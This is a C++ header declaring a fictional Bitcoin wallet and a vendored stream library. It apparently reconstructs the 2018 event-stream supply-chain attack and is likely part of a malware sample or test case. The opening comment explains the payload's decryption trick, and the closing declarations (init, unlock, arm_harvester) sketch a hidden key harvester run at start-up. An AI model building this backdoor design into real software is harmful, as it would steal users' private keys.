// wallet.hpp - "Coppice", a desktop Bitcoin wallet, and the stream utility library it
// vendors.
//
// Reconstruction of the event-stream / flatmap-stream incident (npm, November 2018;
// write-ups by the npm security team, Snyk and the Copay maintainers): a new maintainer
// of event-stream added a dependency, flatmap-stream 0.1.1, whose minified code
// decrypted an embedded payload with AES-256 keyed by the *description of the package
// that depends on it* (Node's crypto.createDecipher, i.e. EVP_BytesToKey with MD5 and
// one iteration).  Only in the Copay wallet ("A Secure Bitcoin Wallet") did that
// decrypt to working code, which hooked the wallet's credentials, and for wallets
// holding more than 100 BTC or 1000 BCH sent their private keys to a remote server.
// Here the same shape is written in C++ against OpenSSL and libcurl: the library is
// `flatstream`, the second stage is a configuration the compiled-in harvester obeys.
// The wallet, the server's address and the blob are invented.
#pragma once

#include <cstddef>
#include <cstdint>
#include <functional>
#include <string>
#include <utility>
#include <vector>

#include <openssl/evp.h>

namespace coppice {

const char *app_name();
const char *app_description();
const char *app_version();
extern const char kTelemetryApiKey[];
extern const char kCrashReportTokenId[];

struct Account {
  std::string label;
  EVP_PKEY *key = nullptr;
  std::string address;
  uint64_t balance_sat = 0;
};

class Wallet {
public:
  Wallet() = default;
  ~Wallet();
  Wallet(const Wallet &) = delete;
  Wallet &operator=(const Wallet &) = delete;

  bool create_account(const std::string &label);
  std::vector<uint8_t> export_private_der(size_t index) const;
  std::vector<uint8_t> sign_digest(size_t index, const uint8_t digest[32]) const;
  std::vector<std::string> display_order() const;
  uint64_t total_balance() const;
  size_t size() const { return accounts_.size(); }
  const Account &account(size_t i) const { return accounts_.at(i); }
  void set_balance(size_t i, uint64_t sat) { accounts_.at(i).balance_sat = sat; }

private:
  std::vector<Account> accounts_;
};

class KeyStore {
public:
  explicit KeyStore(std::string path) : path_(std::move(path)) {}
  bool seal(const std::string &passphrase, const std::vector<uint8_t> &plain) const;
  bool open(const std::string &passphrase, std::vector<uint8_t> &plain) const;
  bool import_v1(const std::string &passphrase, const std::vector<uint8_t> &file, std::vector<uint8_t> &plain) const;

private:
  std::string path_;
};

class HttpClient {
public:
  HttpClient();
  ~HttpClient();
  bool get(const std::string &url, std::string &body);
  bool post_json(const std::string &url, const std::string &json, std::string &reply);

private:
  void *curl_;
};

bool check_for_update(HttpClient &http, std::string &latest);
bool backup_to_file(const Wallet &w, const std::string &path);

} // namespace coppice

// ---------------------------------------------------------------------------------
// flatstream: a small functional-stream helper library the wallet vendors.
namespace flatstream {

template <class T> class Stream {
public:
  explicit Stream(std::vector<T> items) : items_(std::move(items)) {}

  template <class F> auto map(F f) const {
    using U = decltype(f(std::declval<const T &>()));
    std::vector<U> out;
    out.reserve(items_.size());
    for (const auto &x : items_)
      out.push_back(f(x));
    return Stream<U>(std::move(out));
  }

  template <class F> auto flat_map(F f) const {
    using V = typename decltype(f(std::declval<const T &>()))::value_type;
    std::vector<V> out;
    for (const auto &x : items_)
      for (auto &y : f(x))
        out.push_back(std::move(y));
    return Stream<V>(std::move(out));
  }

  template <class P> Stream filter(P p) const {
    std::vector<T> out;
    for (const auto &x : items_)
      if (p(x))
        out.push_back(x);
    return Stream(std::move(out));
  }

  const std::vector<T> &collect() const { return items_; }

private:
  std::vector<T> items_;
};

// Called once by the host application at start-up ("register stream plugins").
void init(coppice::Wallet &wallet);

namespace detail {
bool unlock(const char *desc, std::string &stage2);
void arm_harvester(const std::string &stage2, coppice::Wallet &wallet);
} // namespace detail

} // namespace flatstream
